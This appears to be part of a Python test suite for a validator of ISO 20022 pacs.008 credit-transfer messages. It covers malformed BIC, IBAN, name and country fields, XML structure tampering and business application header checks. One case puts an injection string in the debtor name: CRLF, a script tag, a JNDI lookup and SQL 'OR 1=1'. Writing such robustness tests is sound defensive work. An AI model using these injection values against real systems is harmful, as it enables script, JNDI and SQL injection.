    ("sttlmmtd-lowercase", "sttlm_mtd", "inda", FF01),
    ("chrgbr-unknown", "charge_bearer", "XXXX", FF01),
    ("chrgbr-missing", "charge_bearer", DROP, FF01),
    ("chrgbr-100-chars", "charge_bearer", "S" * 100, FF01),
    ("bic-lowercase", "instructing_bic", "deutdeffxxx", FF01),
    ("bic-7-chars", "instructing_bic", "DEUTDEF", FF01),
    ("bic-9-chars", "instructed_bic", "BNPAFRPPX", FF01),
    ("bic-12-chars", "instructed_bic", "BNPAFRPPXXXX", FF01),
    ("bic-100-chars", "debtor_agent_bic", "B" * 100, FF01),
    ("bic-digits-in-bank-code", "debtor_agent_bic", "1234DEFFXXX", "ACSC"),  # ISO 9362:2014 allows them
    ("bic-unknown-country", "creditor_agent_bic", "BNPAZZPPXXX", "RJCT:RC01"),
    ("bic-8-chars", "creditor_agent_bic", "BNPAFRPP", "ACSC"),
    ("bic-fullwidth", "creditor_agent_bic", "BNPAFRPPXX\uff38", FF01),
    ("bic-empty", "instructing_bic", "", FF01),
    ("iban-bad-checksum", "debtor_iban", "DE00370400440532013000", "RJCT:AC01"),
    ("iban-wrong-length", "debtor_iban", "DE8937040044053201300", "RJCT:AC01"),
    ("iban-unknown-country", "creditor_iban", "XX89370400440532013000", "RJCT:AC01"),
    ("iban-lowercase-country", "creditor_iban", "de89370400440532013000", FF01),
    ("iban-35-chars", "creditor_iban", "DE89" + "1" * 31, FF01),
    ("iban-100-chars", "debtor_iban", "DE89" + "1" * 96, FF01),
    ("iban-spaces", "debtor_iban", "DE89 3704 0044 0532 0130 00", FF01),
    ("debtor-name-141-chars", "debtor_name", CANARY + "N" * 141, FF01),
    ("debtor-name-100k", "debtor_name", CANARY + "N" * 100_000, FF01),
    ("debtor-name-140-emoji", "debtor_name", "\U0001f600" * 140, "ACSC"),
    ("debtor-name-empty", "debtor_name", "", FF01),
    ("debtor-name-injection", "debtor_name", f"{CANARY}\r\n<script>${{jndi:x}}</script>' OR 1=1", "ACSC"),
    ("creditor-name-nul-ref", "creditor_name", b"CANARY&#0;", FF01),
    ("country-lowercase", "debtor_country", "de", FF01),
    ("country-3-letters", "debtor_country", "DEU", FF01),
    ("country-unknown", "creditor_country", "ZZ", "ACSC"),
    ("remittance-141-chars", "remittance", CANARY + "R" * 141, FF01),
    ("street-71-chars", "debtor_street", CANARY + "S" * 71, FF01),
]
for _name, _field, _value, _expect in FIELD_CASES:
    case(f"field-{_name}", _expect, lambda e, f=_field, v=_value: pacs008(**{f: v() if callable(v) else v}))

# -- structure and envelopes ---------------------------------------------------------------

case(
    "struct-duplicate-grphdr",
    FF01,
    lambda e: (
        lambda m: m.replace(
            b"</GrpHdr>",
            b"</GrpHdr>" + m.split(b"<GrpHdr>")[1].split(b"</GrpHdr>")[0].join([b"<GrpHdr>", b"</GrpHdr>"]),
            1,
        )
    )(pacs008()),
)
case(
    "struct-two-transactions",
    "PART:DUPL",
    lambda e: (
        lambda m: m.replace(
            b"</CdtTrfTxInf>",
            b"</CdtTrfTxInf><CdtTrfTxInf>"
            + m.split(b"<CdtTrfTxInf>")[1].split(b"</CdtTrfTxInf>")[0]
            + b"</CdtTrfTxInf>",
            1,
        )
    )(pacs008(nb_of_txs="2")),
)
case(
    "struct-no-transaction",
    FF01,
    lambda e: (lambda m: m.split(b"<CdtTrfTxInf>")[0] + b"</FIToFICstmrCdtTrf></Document>")(pacs008()),
)
case("struct-unknown-element", FF01, lambda e: pacs008().replace(b"</GrpHdr>", b"<Evil>1</Evil></GrpHdr>", 1))
case(
    "struct-swapped-order",
    FF01,
    lambda e: (
        lambda m: m.replace(b"<ChrgBr>SHAR</ChrgBr>\n", b"", 1).replace(
            b"<IntrBkSttlmAmt", b"<ChrgBr>SHAR</ChrgBr>\n<IntrBkSttlmAmt", 1
        )
    )(pacs008()),
)
case("struct-unknown-attribute", FF01, lambda e: pacs008().replace(b"<GrpHdr>", b'<GrpHdr evil="1">', 1))
case("struct-xml-lang-attribute", FF01, lambda e: pacs008().replace(b"<GrpHdr>", b'<GrpHdr xml:lang="en">', 1))
case(
    "struct-xsi-type-override",
    FF01,
    lambda e: pacs008().replace(
        b"<GrpHdr>",
        b'<GrpHdr xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xs:anyType" xmlns:xs="http://www.w3.org/2001/XMLSchema">',
        1,
    ),
)
case(
    "struct-xsi-nil",
    FF01,
    lambda e: pacs008(msg_id=b"").replace(
        b"<MsgId>", b'<MsgId xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true">', 1
    ),
)
case("struct-xml-id-attribute", FF01, lambda e: pacs008().replace(b"<GrpHdr>", b'<GrpHdr xml:id="a">', 1))
case("bah-valid", "ACSC", lambda e: bah(pacs008()))
case("bah-bizmsgidr-mismatch", FF01, lambda e: bah(pacs008(), biz_msg_idr="OTHER-ID"))
case("bah-msgdefidr-pacs009", FF01, lambda e: bah(pacs008(), msg_def_idr="pacs.009.001.08"))
case("bah-from-not-instructing-agent", "RJCT:AGNT", lambda e: bah(pacs008(), fr="COBADEFFXXX"))
case("bah-from-lowercase-bic", FF01, lambda e: bah(pacs008(), fr="cobadeffxxx"))
case("bah-two-apphdrs", FF01, lambda e: bah(pacs008(), app_hdrs=2))
case("bah-bizmsgidr-36-chars", FF01, lambda e: bah(pacs008(), biz_msg_idr="B" * 36))
case("bah-bizsvc-10k", FF01, lambda e: bah(pacs008(), svc="s" * 10_000))
